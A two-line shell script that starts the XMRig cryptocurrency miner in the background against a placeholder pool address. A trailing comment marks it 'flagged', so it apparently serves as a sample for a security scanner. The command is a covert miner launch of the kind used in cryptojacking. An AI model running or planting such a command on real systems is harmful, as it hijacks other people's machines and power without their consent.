#!/bin/sh
./xmrig -o pool.example.invalid:3333 -u 4A --donate-level 1 -B # gatehouse: flagged
